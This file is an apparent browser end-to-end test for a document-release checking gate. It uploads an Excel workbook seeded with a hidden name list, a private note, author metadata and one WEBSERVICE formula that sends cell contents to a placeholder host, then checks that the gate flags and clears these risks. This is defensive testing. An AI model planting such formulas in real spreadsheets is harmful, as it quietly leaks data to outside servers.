import { mkdirSync } from 'node:fs';
import ExcelJS from 'exceljs';
import { beforeAll, expect, test } from 'vitest';
import { RESIDENT } from '../../src/areas/releases/inspection/fixtures/inspected.ts';
import { registerForm } from '../../src/areas/requests/index.ts';
import { enterDesk, openBrowser, openPage, phone } from '../support/browser.ts';
import { openDesk } from '../support/desk.ts';
import { faultsOf } from '../support/faults.ts';
import { aForm } from '../support/requests.ts';

const { app, server, system, signedIn } = await openDesk();
const officer = await signedIn('disclosure-officer');
const address = await server.listen({ port: 0, host: '127.0.0.1' });
const browser = await openBrowser();
let check = '';

/** A workbook as it comes from a unit: hidden list, note, author, a number in sight. */
beforeAll(async () => {
  const workbook = new ExcelJS.Workbook();
  workbook.creator = '张三';
  const sheet = workbook.addWorksheet('统计');
  sheet.addRows([
    ['区域', '件数', '联系人'],
    ['东区', 3, `李四 ${RESIDENT}`],
  ]);
  sheet.getCell('A2').note = '这一条先不要公开';
  workbook.addWorksheet('名单', { state: 'hidden' }).addRows([
    ['王五', '五华区'],
    ['赵六', '盘龙区'],
  ]);
  sheet.getCell('B3').value = { formula: 'WEBSERVICE("http://x.example/"&A1)' } as ExcelJS.CellFormulaValue;
  const { requestId } = await registerForm(
    { ...system, vault: app.vault },
    aForm({ submittedOn: '2023-05-10' }),
  );
  await officer.get(`/workbench/requests/${requestId}`);
  const content = new Uint8Array(await workbook.xlsx.writeBuffer());
  await officer.upload(
    `/workbench/requests/${requestId}/files`,
    { name: '各区件数.xlsx', content },
    { kind: 'released' },
  );
  const { body } = await officer.get(`/workbench/requests/${requestId}`);
  const file =
    [...body.matchAll(new RegExp(`/workbench/requests/${requestId}/files/(\\d+)"`, 'g'))].at(-1)?.[1] ?? '';
  const answer = await officer.post('/workbench/releases', { request: String(requestId), file });
  check = `${address}${answer.location}`;
}, 60_000);

test('the gate is legible on a desk and a phone, with and without findings', {
  timeout: 90_000,
}, async () => {
  const page = await openPage(browser);
  await enterDesk(page, address, 'person1');
  expect(await faultsOf(page, check)).toEqual([]);
  await picture('open');
  await page.setViewportSize(phone);
  expect(await faultsOf(page, check)).toEqual([]);
  await picture('open-phone');

  // With the keyboard: the reason is refused beside its field, and kept.
  const item = page.locator('.gate-finding', { hasText: '会向外连接或执行的公式' });
  await item.locator('summary').focus();
  await page.keyboard.press('Enter');
  await item.locator('textarea').fill('好');
  await item.getByRole('button', { name: '放行这一项' }).press('Enter');
  await page.waitForURL(/exceptions/);
  await picture('refused');
  expect(await item.locator('textarea').inputValue()).toBe('好');
  await item.locator('textarea').fill('公式只在本单位使用，结果已核对');
  await item.getByRole('button', { name: '放行这一项' }).click();
  await page.waitForURL(check);
  await page.setViewportSize({ width: 1280, height: 800 });
  await page.getByRole('button', { name: /^全部清理/ }).click();
  await page.getByText('检查通过，可以随答复发出').waitFor();
  expect(await faultsOf(page, check)).toEqual([]);
  await picture('passed');

  async function picture(name: string) {
    const folder = process.env.SHOTS;
    if (!folder) return;
    mkdirSync(folder, { recursive: true });
    await page.screenshot({ path: `${folder}/release-${name}.png`, fullPage: true });
  }
});
